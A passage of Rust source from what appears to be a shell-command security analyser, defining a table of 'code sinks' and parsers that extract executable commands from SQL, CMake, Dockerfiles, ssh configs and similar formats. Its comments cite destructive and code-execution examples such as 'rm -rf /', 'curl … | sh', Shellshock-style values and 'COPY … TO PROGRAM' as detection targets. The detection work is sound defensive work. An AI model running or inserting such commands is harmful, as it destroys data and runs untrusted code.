//! Code sinks (`rules/sinks.toml`): where a command turns a string, a file or its stdin into code.
//!
//! The walker asks one question of every command: "is this a sink, and where is its code?". The
//! table says which programs are sinks and which extractor finds their code; the extractors here
//! only know *formats* (option values, sed and awk programs, git configuration keys, makefile
//! recipes, remote argv), never individual attacks.

use super::ir::{Command, Word};
pub use crate::interp::Lang;
use crate::rules::Examples;
use serde::Deserialize;
use std::collections::HashMap;
use std::sync::OnceLock;

include!(concat!(env!("OUT_DIR"), "/sink_names.rs"));

/// How a sink's code is found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Extract {
    /// The value of an option is code.
    Option,
    /// The argv after the options (or after a marker) is a command.
    Rest,
    /// The first positional argument is shell code.
    FirstArg,
    /// Commands are read from stdin or a `-f FILE`.
    Stdin,
    /// sed scripts.
    Sed,
    /// awk programs.
    Awk,
    /// git aliases and configuration.
    Git,
    /// makefile recipes.
    Make,
    /// Project files a tool reads and runs code from (`just` reads `justfile`, `pytest`
    /// imports `conftest.py`, `npm install` runs `package.json` scripts): `read_files` in
    /// `file_format`, when the input wrote them.
    ReadsFiles,
    /// Source files named on the command line by their extension (`extensions`), in
    /// `file_format`, when the input wrote them: `gcc w.c`, `go run m.go`, `rustc m.rs`.
    SourceFiles,
    /// Interpreter code.
    Interp,
    /// Any argument that starts with one of `strip` (`sqlite3 '.shell cmd'`).
    MarkedArg,
    /// SQL a database client sends (arguments, stdin, `file_options` files): the shell commands
    /// the server or the client runs for it (`COPY … TO PROGRAM 'cmd'`, `xp_cmdshell 'cmd'`).
    Sql,
    /// A command line run on another host.
    Remote,
    /// A command run inside a container.
    Container,
    /// A local Python project installed from its directory (`pip install .`): its `setup.py`
    /// runs.
    ProjectInstall,
    /// Commands inside a document handed to an API or orchestrator (`fields` in JSON,
    /// `KEY=VALUE`, YAML or HCL), in `options` values or a document read from stdin.
    Payload,
}

/// One sink as written in the table.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SinkSpec {
    /// Stable id, shown in findings as the place the code ran through.
    pub id: String,
    /// Program names (canonical base names).
    pub programs: Vec<String>,
    /// Which extractor finds the code.
    pub extract: Extract,
    /// What the sink is, for people.
    pub title: String,
    /// Language of the extracted code (`shell` unless given).
    #[serde(default)]
    pub lang: Option<String>,
    /// Options whose value is code (`option`).
    #[serde(default)]
    pub options: Vec<String>,
    /// Markers stripped from an option value (`!` in `vim -c '!cmd'`).
    #[serde(default)]
    pub strip: Vec<String>,
    /// Only values that carry one of the `strip` markers ending in `!`, `(` or a blank are code.
    #[serde(default)]
    pub require_strip: bool,
    /// The rest of the argv after one of these arguments is the command (`rest`).
    #[serde(default)]
    pub after: Vec<String>,
    /// `after` markers count only among the program's own leading options (`sudo -s`, not the
    /// `-i` of a command sudo runs).
    #[serde(default)]
    pub after_options_only: bool,
    /// Options that take a value (so their value is not the first positional).
    #[serde(default)]
    pub value_options: Vec<String>,
    /// Environment variables whose words the program reads as options before its own
    /// (`TAR_OPTIONS`): an assignment on the command is analysed as if typed in its argv.
    #[serde(default)]
    pub env_options: Vec<String>,
    /// Positionals that name where the command runs, skipped before it (`rest`): `oc rsh POD
    /// CMD…` and `machinectl shell MACHINE CMD…` pass the command's words as they are.
    #[serde(default)]
    pub targets: usize,
    /// Join the rest into one shell string instead of an argv.
    #[serde(default)]
    pub join: bool,
    /// Only when some argument matches this regex (`payload`): a request to a control API that
    /// runs what it is sent (a Docker Engine port, an `/exec` or `/run` path), not a JSON field
    /// named `cmd` posted to any web service.
    #[serde(default)]
    pub api_url: Option<String>,
    #[serde(skip)]
    api_url_re: std::sync::OnceLock<Option<regex::Regex>>,
    /// Options binding a host path into the place the command runs, `SRC[:DST]` (`rest`):
    /// `systemd-nspawn --bind=/:/host … rm -rf /host` deletes the host's root.
    #[serde(default)]
    pub bind_options: Vec<String>,
    /// An argument starting with this (`node/` of `kubectl debug node/NAME`) runs the command
    /// in a pod with the node's root file system mounted at `/host` (`rest`).
    #[serde(default)]
    pub host_root_arg: Option<String>,

    /// The first positional must be one of these verbs.
    #[serde(default)]
    pub subcommands: Vec<String>,
    /// Arguments dropped from a joined rest (`Enter` for `tmux send-keys`).
    #[serde(default)]
    pub drop: Vec<String>,
    /// Arguments skipped before the first positional (`first-arg`); for `operands`, options
    /// whose next argument is their value, not an operand (`m4 -I DIR`).
    #[serde(default)]
    pub skip: Vec<String>,
    /// With `stdin` and a `file_format`: the operands are files in that format, and with no
    /// operand the stdin is (`m4 FILE…`, `… | m4`).
    #[serde(default)]
    pub operands: bool,
    /// Options naming a file of commands (`stdin`).
    #[serde(default)]
    pub file_options: Vec<String>,
    /// Prefixes of an option value that switch to another language (`vim -c 'py3 …'`).
    #[serde(default)]
    pub lang_markers: HashMap<String, String>,
    /// Options whose value is inline program text (`interp`).
    #[serde(default)]
    pub flags: Vec<String>,
    /// At least one of these options must be on the command line (`jupyter nbconvert` runs a
    /// notebook only with `--execute`).
    #[serde(default)]
    pub require_flags: Vec<String>,
    /// For ansible: the module (`-m`, default `command`) must be one of these.
    #[serde(default)]
    pub require_module: Vec<String>,
    /// Option values must start with one of these `KEY=` names (`ssh -o ProxyCommand=…`).
    #[serde(default)]
    pub keys: Vec<String>,
    /// The code follows the first occurrence of this separator in an option value (`bind -x
    /// '"\C-t": CMD'`: a key sequence, then `:`).
    #[serde(default)]
    pub separator: Option<String>,
    /// Fields of an option value that hold code: JSON keys (`{"commandToExecute": "…"}`), or
    /// `KEY=VALUE` arguments (ansible's `job='…'`, aws's `commands=["…"]`); a list of strings is
    /// one line per item.
    #[serde(default)]
    pub fields: Vec<String>,
    /// A `rest` command's first word rewritten as a program and its options
    /// (`cmake -E remove_directory D` runs like `rm -rf D`).
    #[serde(default)]
    pub verbs: HashMap<String, String>,
    /// File name endings a `source-files` sink reads (`.c`, `.go`).
    #[serde(default)]
    pub extensions: Vec<String>,
    /// Files a `reads-files` sink's program reads code from (relative to its directory); `*.go`
    /// stands for every file with that ending the input wrote.
    #[serde(default)]
    pub read_files: Vec<String>,
    /// Their format: a language name, or `make`, `recipes`, `lines`, `dockerfile`,
    /// `json-scripts`, `strings` (see [`Format::parse`]).
    #[serde(default)]
    pub file_format: Option<String>,
    /// Where the extracted command runs when not on this machine (`rest` sinks: "inside a
    /// Kubernetes pod"); shown in findings, and such code reads the local stdin.
    #[serde(default)]
    pub runs: Option<String>,
    /// The code runs with the sink's own stdin (`… | su -c sh`, `… | flock L -c sh`), so it
    /// stands where the sink stands in a pipeline.
    #[serde(default)]
    pub keeps_stdin: bool,
    /// Unknown stdin is data in the program's own language (SQL for `… | psql`), not code:
    /// only the marked lines of known input run.
    #[serde(default)]
    pub input_is_data: bool,
    /// `interp`: words that are not options are not script files but data (mongosh's database
    /// address, redis-cli's command words before `EVAL`).
    #[serde(default)]
    pub operands_are_data: bool,
    /// Proof: commands that must extract code through this sink, and commands that must not.
    pub examples: Examples,
}

// Generated by build.rs from rules/sinks.toml: SINK_JSON (one text per sink), SINK_BY_PROGRAM,
// INDIRECT_SHELLS, ENV_CODE, PROGRAM_VARIANTS.
include!(concat!(env!("OUT_DIR"), "/sink_entries.rs"));

/// The table, indexed by program name at build time; a sink is parsed the first time a command
/// names one of its programs.
pub struct SinkTable {
    slots: Vec<OnceLock<SinkSpec>>,
}

impl SinkTable {
    fn sink(&self, i: usize) -> &SinkSpec {
        self.slots[i].get_or_init(|| {
            serde_json::from_str(SINK_JSON[i]).expect("rules/sinks.toml is valid (tested)")
        })
    }

    /// The shell code held by an environment assignment that a program runs (`PAGER='…'`).
    pub fn env_code(&self, name: &str, value: &Word) -> Option<Word> {
        // An exported function (`BASH_FUNC_ls%%=() { …; }`), or a Shellshock-style value
        // (`x='() { :;}; cmd'`): bash defines, and a vulnerable bash runs, what follows `()`.
        if let Some(body) = value.text.trim_start().strip_prefix("()") {
            if body.trim_start().starts_with('{') {
                return Some(part(value, body));
            }
        }
        // vim/ex run their start-up commands from these: a `:!cmd` among them is shell code.
        if VIM_STARTUP_VARIABLES.contains(&name) {
            let mut code = value.text.trim().trim_start_matches(':').trim_start();
            for word in ["silent!", "silent", "sil!", "sil"] {
                code = code.strip_prefix(word).unwrap_or(code).trim_start();
            }
            return code
                .strip_prefix('!')
                .filter(|c| !c.trim().is_empty())
                .map(|c| part(value, c));
        }
        if !is_code_variable(name) {
            return None;
        }
        if name.len() == 3 && name.starts_with("PS") {
            // Prompts are text; only their command substitutions run.
            let code = substitution_bodies(&value.text).join("\n");
            return (!code.is_empty()).then(|| part(value, &code));
        }
        let code = value.text.trim().trim_start_matches('|').replace("%s", "");
        let code = without_own_value(&code, name);
        (!code.trim().is_empty()).then(|| part(value, &code))
    }

    /// Every sink, in table order (parses them all).
    pub fn sinks(&self) -> impl Iterator<Item = &SinkSpec> {
        (0..self.slots.len()).map(|i| self.sink(i))
    }

    /// Sinks for a canonical program name.
    pub fn for_program(&self, name: &str) -> impl Iterator<Item = &SinkSpec> {
        let find = |p: &str| {
            SINK_BY_PROGRAM
                .binary_search_by(|(k, _)| (*k).cmp(p))
                .ok()
                .map(|i| SINK_BY_PROGRAM[i].1)
        };
        // `python3.12`, `ruby3.2`, `php8.3`, `lua5.4`: the versioned name of a known program.
        let entry = find(name).or_else(|| {
            let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
            (base.len() < name.len() && !base.is_empty())
                .then(|| find(base).or_else(|| find(&format!("{base}3"))))
                .flatten()
        });
        entry
            .into_iter()
            .flatten()
            .map(move |&i| self.sink(usize::from(i)))
    }

    /// True when a program word as written (`"$SHELL"`, `/proc/self/exe`) names the running shell.
    pub fn is_indirect_shell(&self, raw: &str) -> bool {
        INDIRECT_SHELLS.contains(&raw)
    }

    /// The program a distribution name stands for (`nc.traditional` → `nc`).
    pub fn program_variant(&self, base: &str) -> Option<&'static str> {
        PROGRAM_VARIANTS
            .binary_search_by(|(v, _)| (*v).cmp(base))
            .ok()
            .map(|i| PROGRAM_VARIANTS[i].1)
    }

    /// Environment variables whose value is run as a command (prefilter keywords).
    pub fn env_names(&self) -> impl Iterator<Item = &str> {
        ENV_CODE.iter().copied()
    }

    /// Every program name the table knows (prefilter keywords).
    pub fn programs(&self) -> impl Iterator<Item = &str> {
        SINK_BY_PROGRAM.iter().map(|(p, _)| *p)
    }
}

/// The bodies of `$(…)` and `` `…` `` substitutions in a text (balanced parentheses).
fn substitution_bodies(text: &str) -> Vec<String> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'(') {
            let mut depth = 0;
            let start = i + 2;
            let mut j = i + 1;
            while j < b.len() {
                match b[j] {
                    b'(' => depth += 1,
                    b')' => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                j += 1;
            }
            out.push(text[start..j.min(text.len())].to_string());
            i = j + 1;
        } else if b[i] == b'`' {
            let end = text[i + 1..]
                .find('`')
                .map(|p| p + i + 1)
                .unwrap_or(text.len());
            out.push(text[i + 1..end].to_string());
            i = end + 1;
        } else {
            i += 1;
        }
    }
    out
}

/// Variables whose value vim/ex run as start-up commands (a `:!cmd` among them is shell code).
pub const VIM_STARTUP_VARIABLES: &[&str] = &["VIMINIT", "EXINIT", "GVIMINIT"];

/// A variable whose value some program runs as code (`PROMPT_COMMAND`, `GIT_SSH_COMMAND`,
/// `PAGER`, …), by the environment table; [`VIM_STARTUP_VARIABLES`] are checked apart.
pub fn is_code_variable(name: &str) -> bool {
    ENV_CODE
        .iter()
        .any(|e| *e == name || (e.contains('*') && crate::text::glob::matches(e, name)))
}

/// The embedded sink table.
pub fn table() -> &'static SinkTable {
    static TABLE: OnceLock<SinkTable> = OnceLock::new();
    TABLE.get_or_init(|| SinkTable {
        slots: SINK_JSON.iter().map(|_| OnceLock::new()).collect(),
    })
}

/// What a sink runs.
#[derive(Debug, Clone)]
pub enum Code {
    /// A string in some language.
    Text(Lang, Word),
    /// A command vector (`xterm -e rm -rf /`).
    Argv(Vec<Word>),
    /// The code is the command's input (`sed e`, `awk '{system($0)}'`, `at` on a pipe).
    Input,
    /// Code in a file named by this word, in the given format.
    File(Word, Format),
}

/// How to read a code file a sink names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// Program text in a language.
    Code(Lang),
    /// A sed script.
    Sed,
    /// An awk program.
    Awk,
    /// A makefile.
    Make,
    /// Indented recipe lines (`justfile`, a makefile indented with blanks).
    Recipes,
    /// Command lines in a configuration file: YAML list items and `run:`/`cmd:`/`command:`/
    /// `script:` values, `commands =` of tox.
    Lines,
    /// A Dockerfile: its `RUN` instructions.
    Dockerfile,
    /// `package.json` / `composer.json`: the values of `"scripts"`.
    JsonScripts,
    /// A Procfile: `NAME: COMMAND` lines.
    Procfile,
    /// A Nix expression: its `shellHook` (an indented `''…''` string or a double-quoted one).
    Nix,
    /// Source in a language without an analyser here (a Cargo `build.rs`, Gradle): each
    /// double-quoted string literal is read as a command line.
    Strings,
    /// An editor script (vim's `-S FILE`, ed): its `:!cmd` lines and `system("cmd")` calls.
    Bang,
    /// m4 input: the commands of its `syscmd(…)` and `esyscmd(…)` macros.
    M4,
    /// A CMake script (`cmake -P`, `CMakeLists.txt`): `execute_process(COMMAND …)`,
    /// `exec_program(…)` and `file(REMOVE_RECURSE …)`, as command lines.
    CMake,
    /// SQL: the commands of `COPY … TO|FROM PROGRAM`, `xp_cmdshell`, sqlcmd `!!` lines and
    /// SQLite `.output|.once '|cmd'`.
    Sql,
    /// Go source: the commands of its `//go:generate` lines.
    GoGenerate,
    /// A client's or debugger's script (gdb `-x`, lldb `-s`, psql `-f`, sqlite3 `-init`): its
    /// shell-escape lines (`shell cmd`, `!cmd`, `\! cmd`, `.shell cmd`, `platform shell cmd`).
    Escapes,
    /// An ssh client configuration (`ssh -F FILE`, `~/.ssh/config`): the commands of its
    /// `ProxyCommand`, `LocalCommand`, `KnownHostsCommand` and `Match exec` lines.
    SshConfig,
    /// A systemd-tmpfiles configuration: its removal lines (`R`/`r` remove a path, `D` the
    /// contents of a directory) as the `rm` commands they amount to.
    Tmpfiles,
    /// A Jupyter notebook: its code cells (Python, `!cmd` lines, `%%bash` cells).
    Notebook,
}

impl Format {
    /// A `file_format` of the sink table.
    pub fn parse(s: Option<&str>) -> Format {
        match s.unwrap_or("shell") {
            "make" => Format::Make,
            "recipes" => Format::Recipes,
            "lines" => Format::Lines,
            "dockerfile" => Format::Dockerfile,
            "json-scripts" => Format::JsonScripts,
            "procfile" => Format::Procfile,
            "nix" => Format::Nix,
            "strings" => Format::Strings,
            "bang" => Format::Bang,
            "m4" => Format::M4,
            "cmake" => Format::CMake,
            "sql" => Format::Sql,
            "go-generate" => Format::GoGenerate,
            "escapes" => Format::Escapes,
            "ssh-config" => Format::SshConfig,
            "tmpfiles" => Format::Tmpfiles,
            "notebook" => Format::Notebook,
            other => Format::Code(Lang::parse(Some(other))),
        }
    }

    /// Shell command lines in `content` (for the formats that are not a language of their
    /// own; `None` for code, sed, awk and makefiles).
    pub fn command_lines(self, content: &str) -> Option<String> {
        let mut out = String::new();
        let mut push = |line: &str| {
            let line = unquote_line(line.trim()).trim();
            if !line.is_empty() {
                out.push_str(line);
                out.push('\n');
            }
        };
        match self {
            Format::Bang => {
                for l in content.lines() {
                    let t = l.trim_start().trim_start_matches(':').trim_start();
                    let t = ["silent!", "silent", "sil!", "sil"]
                        .iter()
                        .find_map(|p| t.strip_prefix(p))
                        .unwrap_or(t)
                        .trim_start();
                    if let Some(cmd) = t.strip_prefix('!') {
                        push(cmd);
                    } else if let Some((_, rest)) = t.split_once("system(") {
                        let q = rest.chars().next().filter(|c| *c == '"' || *c == '\'');
                        if let Some(q) = q {
                            push(rest[1..].split(q).next().unwrap_or(""));
                        }
                    }
                }
            }
            Format::Recipes => content
                .lines()
                .filter(|l| l.starts_with([' ', '\t']))
                .for_each(|l| push(l.trim_start().trim_start_matches(['@', '-']))),
            Format::Lines => {
                for l in content.lines() {
                    let t = l.trim_start().trim_start_matches("- ").trim_start();
                    let key = LINE_KEYS.iter().find(|k| t.starts_with(**k));
                    let value = key.map(|k| &t[k.len()..]);
                    // `command:`/`entrypoint:` of a container spec hold an argv, `cmds:` of a
                    // Taskfile a list of commands.
                    let argv_list = key.is_some_and(|k| ARGV_KEYS.contains(k));
                    match value.map(str::trim) {
                        // `command: ["sh", "-c", "curl … | sh"]`: one command, its words.
                        Some(v) if v.starts_with('[') && argv_list => push(&inline_argv(v)),
                        // `cmds: ["a", "b"]`: an inline list, one command per item.
                        Some(v) if v.starts_with('[') => {
                            v.trim_matches(['[', ']']).split("\",").for_each(&mut push)
                        }
                        Some(v) => push(v.trim_start_matches(['|', '>'])),
                        // HCL on one line: `provisioner "local-exec" { command = "…" }`.
                        None if t.contains("command = \"") => {
                            let after = t.split_once("command = \"").map_or("", |x| x.1);
                            push(after.rsplit_once('"').map_or(after, |x| x.0))
                        }
                        // A list item that is a mapping (`- name: web`, `- {name: x}`) or a
                        // flow sequence holds settings, not a command.
                        None if t.starts_with(['{', '[']) || yaml_key_value(t) => {}
                        None if l.trim_start().starts_with("- ")
                            || l.starts_with([' ', '\t'])
                                && !t.contains(": ")
                                && !t.ends_with(':') =>
                        {
                            push(t)
                        }
                        None => {}
                    }
                }
                // An Ansible playbook's module tasks (`file: path=/ state=absent`).
                if content.contains("hosts:") || content.contains("tasks:") {
                    for c in super::config_mgmt::playbook_task_commands(content) {
                        push(&c);
                    }
                }
            }
            Format::Dockerfile => {
                let mut cont = false;
                for l in content.lines() {
                    let t = l.trim();
                    let body = if cont {
                        Some(t)
                    } else {
                        t.strip_prefix("RUN ").or_else(|| t.strip_prefix("run "))
                    };
                    if let Some(b) = body {
                        cont = b.ends_with('\\');
                        push(b.trim_end_matches('\\'));
                    }
                }
            }
            Format::Notebook => return notebook_commands(content),
            Format::JsonScripts => match serde_json::from_str::<serde_json::Value>(content) {
                Ok(v) => {
                    if let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) {
                        for s in scripts.values() {
                            match s {
                                serde_json::Value::String(c) => push(c),
                                serde_json::Value::Array(a) => {
                                    a.iter().filter_map(|x| x.as_str()).for_each(&mut push)
                                }
                                _ => {}
                            }
                        }
                    }
                }
                // Only part of the file is known (`sed -i 's/"test": "jest"/"test": "…"/'
                // package.json): each string of the edit may be a script.
                Err(_) => {
                    for literal in double_quoted_literals(content) {
                        push(&literal);
                    }
                }
            },
            Format::Strings => {
                for literal in double_quoted_literals(content) {
                    push(&literal);
                }
            }
            Format::Procfile => content
                .lines()
                .filter(|l| !l.trim_start().starts_with('#'))
                .filter_map(|l| l.split_once(':'))
                .filter(|(name, _)| {
                    !name.is_empty()
                        && name
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c))
                })
                .for_each(|(_, cmd)| push(cmd)),
            Format::Nix => {
                for hook in nix_shell_hooks(content) {
                    hook.lines().for_each(&mut push);
                }
            }
            Format::M4 => {
                for name in ["esyscmd(", "syscmd("] {
                    let mut rest = content;
                    while let Some(at) = rest.find(name) {
                        let after = &rest[at + name.len()..];
                        // `esyscmd(` also contains `syscmd(`: count each call once.
                        let inside_esyscmd = name == "syscmd(" && rest[..at].ends_with('e');
                        let arg = balanced_call_argument(after);
                        if !inside_esyscmd {
                            push(
                                arg.trim()
                                    .trim_start_matches(['`', '['])
                                    .trim_end_matches(['\'', ']']),
                            );
                        }
                        rest = &after[arg.len().min(after.len())..];
                    }
                }
            }
            Format::CMake => {
                // Quoted words stay quoted: no trimming of the line's quotes.
                for line in cmake_command_lines(content) {
                    out.push_str(&line);
                    out.push('\n');
                }
            }
            Format::GoGenerate => content
                .lines()
                .filter_map(|l| l.trim_start().strip_prefix("//go:generate "))
                .for_each(&mut push),
            Format::Escapes => {
                const MARKERS: [&str; 14] = [
                    "\\o |",
                    "\\o|",
                    "\\g |",
                    ".output |",
                    ".once |",
                    "platform shell ",
                    ".shell ",
                    ".system ",
                    "\\! ",
                    "\\!",
                    "shell ",
                    "system ",
                    "pipe ",
                    "!",
                ];
                for l in content.lines() {
                    let t = l.trim_start();
                    if let Some(cmd) = MARKERS.iter().find_map(|m| t.strip_prefix(m)) {
                        push(cmd);
                    }
                }
            }
            Format::SshConfig => {
                for l in content.lines() {
                    let t = l.trim_start();
                    let (key, value) = t
                        .split_once(|c: char| c == '=' || c.is_whitespace())
                        .unwrap_or((t, ""));
                    let value = value.trim_start_matches(|c: char| c == '=' || c.is_whitespace());
                    let key = key.to_ascii_lowercase();
                    if ["proxycommand", "localcommand", "knownhostscommand"].contains(&key.as_str())
                    {
                        push(value);
                    } else if key == "match" {
                        // `Match exec "cmd"`: ssh runs cmd to decide whether the block applies.
                        if let Some((_, cmd)) = value.split_once("exec ") {
                            push(cmd.trim());
                        }
                    }
                }
            }
            Format::Tmpfiles => {
                for l in content.lines() {
                    let mut fields = l.split_whitespace();
                    let (Some(kind), Some(path)) = (fields.next(), fields.next()) else {
                        continue;
                    };
                    // `%h` is the user's home directory; other specifiers stay as written.
                    let path = path.replace("%h", "$HOME");
                    let path = path.as_str();
                    // Modifiers after the type letter (`R!`, `r-`, `D=`) do not change what goes.
                    match kind.trim_end_matches(['!', '-', '=', '~', '^', '+']) {
                        "R" => push(&format!("rm -rf {path}")),
                        "r" => push(&format!("rm -f {path}")),
                        "D" => push(&format!("rm -rf {}/*", path.trim_end_matches('/'))),
                        _ => {}
                    }
                }
            }
            Format::Sql => {
                for line in sql_shell_commands(content) {
                    out.push_str(&line);
                    out.push('\n');
                }
            }
            _ => return None,
        }
        Some(out)
    }
}

/// Shell commands inside SQL: PostgreSQL `COPY … TO|FROM PROGRAM 'cmd'` (also `E'…'` and
/// dollar quoting), SQL Server `xp_cmdshell 'cmd'` and sqlcmd's `!!cmd` lines, and the
/// `.output '|cmd'` / `.once |cmd` of SQLite and DuckDB.
fn sql_shell_commands(sql: &str) -> Vec<String> {
    static RE: OnceLock<regex::Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        regex::Regex::new(r"(?i)\b(?:to|from)\s+program\s+").expect("static regex")
    });
    let mut out: Vec<String> = re
        .find_iter(sql)
        .filter_map(|m| sql_string(&sql[m.end()..]))
        .collect();
    // MongoDB's shell: `runProgram('sh', '-c', 'cmd')`, `run('rm', '-rf', '/')`.
    for call in ["runProgram(", "run("] {
        let mut rest = sql;
        while let Some(at) = rest.find(call) {
            let whole_word = !rest[..at]
                .bytes()
                .next_back()
                .is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'.');
            let after = &rest[at + call.len()..];
            let args = balanced_call_argument(after);
            if whole_word {
                let words: Vec<String> = args
                    .split(',')
                    .filter_map(|a| sql_string(a.trim()))
                    .map(|w| format!("'{}'", w.replace('\'', "'\\''")))
                    .collect();
                if !words.is_empty() {
                    out.push(words.join(" "));
                }
            }
            rest = &after[args.len().min(after.len())..];
        }
    }
    for line in sql.lines() {
        let t = line.trim_start();
        let lower = t.to_ascii_lowercase();
        if let Some(rest) = [".output", ".once"]
            .iter()
            .find_map(|d| lower.strip_prefix(d))
            .filter(|r| r.starts_with(char::is_whitespace))
        {
            let value = t[t.len() - rest.len()..].trim().trim_matches(['\'', '"']);
            if let Some(cmd) = value.strip_prefix('|') {
                out.push(cmd.trim().to_string());
            }
        }
    }
    out
}

/// Commands SQL Server hands to cmd.exe: `xp_cmdshell 'cmd'` and sqlcmd's `!!cmd` lines.
fn sql_cmd_exe_commands(sql: &str) -> Vec<String> {
    static RE: OnceLock<regex::Regex> = OnceLock::new();
    let re = RE
        .get_or_init(|| regex::Regex::new(r"(?i)\bxp_cmdshell\b\s*\(?\s*").expect("static regex"));
    // `'xp_cmdshell'` as a quoted name (`sp_configure 'xp_cmdshell', 1`) runs nothing.
    let mut out: Vec<String> = re
        .find_iter(sql)
        .filter(|m| m.start() == 0 || !matches!(sql.as_bytes()[m.start() - 1], b'\'' | b'"'))
        .filter_map(|m| sql_string(&sql[m.end()..]))
        .collect();
    out.extend(
        sql.lines()
            .filter_map(|l| l.trim_start().strip_prefix("!!"))
            .map(|c| c.trim().to_string()),
    );
    out
}

/// The text of the SQL string literal at the start of `s`: `'…'` (`''` is a quote), `E'…'` and
/// `N'…'`, `$$…$$` / `$tag$…$tag$`, or `"…"`.
fn sql_string(s: &str) -> Option<String> {
    // A literal inside another literal doubles its quotes (`EXECUTE 'COPY … PROGRAM ''cmd'''`).
    if let Some(inner) = s.strip_prefix("''").filter(|r| !r.starts_with('\'')) {
        // `''''` is a quote in the inner literal; `''` alone ends it.
        let mut text = String::new();
        let mut rest = inner;
        loop {
            let at = rest.find("''")?;
            text.push_str(&rest[..at]);
            if rest[at..].starts_with("''''") {
                text.push('\'');
                rest = &rest[at + 4..];
            } else {
                return Some(text);
            }
        }
    }
    let s = s
        .strip_prefix(['E', 'e', 'N', 'n'])
        .filter(|r| r.starts_with('\''))
        .unwrap_or(s);
    if let Some(body) = s.strip_prefix('$') {
        let tag_len = body.find('$')?;
        let tag = &body[..tag_len];
        if !tag.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
            return None;
        }
        let rest = &body[tag_len + 1..];
        let end = rest.find(&format!("${tag}$"))?;
        return Some(rest[..end].to_string());
    }
    let quote = s.chars().next().filter(|c| *c == '\'' || *c == '"')?;
    let mut text = String::new();
    let mut chars = s[1..].chars().peekable();
    while let Some(c) = chars.next() {
        if c == quote {
            if chars.peek() == Some(&quote) {
                chars.next();
                text.push(quote);
                continue;
            }
            return Some(text);
        }
        if c == '\\' && chars.peek() == Some(&quote) {
            chars.next();
            text.push(quote);
            continue;
        }
        text.push(c);
    }
    None
}

/// The text of a call's argument list up to its closing parenthesis (nested ones kept).
fn balanced_call_argument(after_open: &str) -> &str {
    let mut depth = 0usize;
    for (i, c) in after_open.char_indices() {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => return &after_open[..i],
            ')' => depth -= 1,
            _ => {}
        }
    }
    after_open
}

/// Command lines of a CMake script: each `COMMAND` of `execute_process` and
/// `add_custom_command|target`, the program and `ARGS` of `exec_program`, and the paths of
/// `file(REMOVE_RECURSE …)` as `rm -rf`. `$ENV{X}` becomes `$X`.
fn cmake_command_lines(content: &str) -> Vec<String> {
    const KEYWORDS: &[&str] = &[
        "WORKING_DIRECTORY",
        "TIMEOUT",
        "RESULT_VARIABLE",
        "RESULTS_VARIABLE",
        "OUTPUT_VARIABLE",
        "ERROR_VARIABLE",
        "INPUT_FILE",
        "OUTPUT_FILE",
        "ERROR_FILE",
        "OUTPUT_QUIET",
        "ERROR_QUIET",
        "COMMAND_ECHO",
        "OUTPUT_STRIP_TRAILING_WHITESPACE",
        "ERROR_STRIP_TRAILING_WHITESPACE",
        "ENCODING",
        "ECHO_OUTPUT_VARIABLE",
        "ECHO_ERROR_VARIABLE",
        "COMMAND_ERROR_IS_FATAL",
        "OUTPUT",
        "DEPENDS",
        "BYPRODUCTS",
        "COMMENT",
        "VERBATIM",
        "USES_TERMINAL",
        "ALL",
        "MAIN_DEPENDENCY",
        "IMPLICIT_DEPENDS",
        "DEPFILE",
        "JOB_POOL",
        "JOB_SERVER_AWARE",
        "SOURCES",
        "COMMAND_EXPAND_LISTS",
        "APPEND",
        "PRE_BUILD",
        "PRE_LINK",
        "POST_BUILD",
        "TARGET",
        "RETURN_VALUE",
    ];
    let text = cmake_variables(content);
    let lower = text.to_ascii_lowercase();
    let mut lines = Vec::new();
    for call in [
        "execute_process(",
        "exec_program(",
        "add_custom_command(",
        "add_custom_target(",
        "file(",
    ] {
        let mut from = 0;
        while let Some(at) = lower[from..].find(call) {
            let start = from + at + call.len();
            // A longer name ending in this one (`my_file(`) is another command.
            let before = text[..from + at].chars().next_back();
            let args = balanced_call_argument(&text[start..]);
            from = start + args.len();
            if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                continue;
            }
            let words = cmake_words(args);
            match call {
                "file(" => {
                    if let Some((verb, paths)) = words.split_first() {
                        if verb == "REMOVE_RECURSE" || verb == "REMOVE" {
                            let paths: Vec<String> = paths.iter().map(|p| shell_quote(p)).collect();
                            if !paths.is_empty() {
                                lines.push(format!("rm -rf -- {}", paths.join(" ")));
                            }
                        }
                    }
                }
                "exec_program(" => {
                    let mut cmd: Vec<String> = Vec::new();
                    let mut in_args = false;
                    for (i, w) in words.iter().enumerate() {
                        if i == 0 {
                            cmd.push(shell_quote(w));
                        } else if w == "ARGS" {
                            in_args = true;
                        } else if KEYWORDS.contains(&w.as_str()) {
                            in_args = false;
                        } else if in_args {
                            // ARGS are pasted into a command line as they are.
                            cmd.push(w.clone());
                        }
                    }
                    lines.push(cmd.join(" "));
                }
                _ => {
                    let mut cmd: Option<Vec<String>> = None;
                    for w in &words {
                        if w == "COMMAND" {
                            if let Some(c) = cmd.take().filter(|c| !c.is_empty()) {
                                lines.push(c.join(" "));
                            }
                            cmd = Some(Vec::new());
                        } else if KEYWORDS.contains(&w.as_str()) {
                            if let Some(c) = cmd.take().filter(|c| !c.is_empty()) {
                                lines.push(c.join(" "));
                            }
                        } else if let Some(c) = cmd.as_mut() {
                            c.push(shell_quote(w));
                        }
                    }
                    if let Some(c) = cmd.filter(|c| !c.is_empty()) {
                        lines.push(c.join(" "));
                    }
                }
            }
        }
    }
    lines
}

/// `$ENV{X}` as the shell's `${X}`; a CMake variable `${X}` as the bare name (a value the
/// project sets, not the shell's).
fn cmake_variables(content: &str) -> String {
    let mut out = String::with_capacity(content.len());
    let mut rest = content;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at..];
